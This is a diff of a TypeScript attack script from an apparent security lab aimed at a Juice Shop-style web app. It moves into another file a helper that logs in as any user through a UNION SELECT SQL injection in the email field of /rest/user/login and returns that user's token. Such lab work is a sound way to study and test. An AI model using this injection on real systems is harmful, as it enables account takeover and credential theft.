@@ -1,24 +1,5 @@
 import type { Attack, Tools } from '#lab'
-
-/** All columns of Users in the order of the table, some of them replaced. */
-function columns(replaced: Record<string, string>): string {
-  const names =
-    'id username email password role deluxeToken lastLoginIp profileImage totpSecret isActive createdAt updatedAt deletedAt'
-  return names
-    .split(' ')
-    .map((name) => replaced[name] ?? name)
-    .join(',')
-}
-
-/** Logs in with a row made of an account's own and what is replaced in it; returns the token. */
-async function logInAs(tools: Tools, who: string, replaced: Record<string, string>): Promise<string> {
-  const { http, expect, settings } = tools
-  const address = `${who}@${settings.domain}`
-  const email = `' UNION SELECT ${columns(replaced)} FROM Users WHERE email='${address}'--`
-  const answer = await http.post('/rest/user/login', { email, password: 'a' })
-  expect(answer.status === 200, `the login answered with ${answer.status}`)
-  return answer.json<{ authentication: { token: string } }>().authentication.token
-}
+import { logInAs } from './steps.ts'
 
 /** What a token says of its owner. */
 function ownerOf(token: string): Record<string, unknown> {
